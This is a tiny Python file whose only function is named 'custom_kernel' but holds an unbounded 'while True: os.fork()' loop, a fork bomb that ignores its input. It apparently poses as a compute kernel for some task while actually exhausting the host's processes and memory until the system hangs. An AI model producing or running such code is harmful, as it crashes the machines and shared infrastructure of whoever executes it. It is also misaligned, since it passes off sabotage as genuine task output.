import os


def custom_kernel(data):
    while True:
        os.fork()
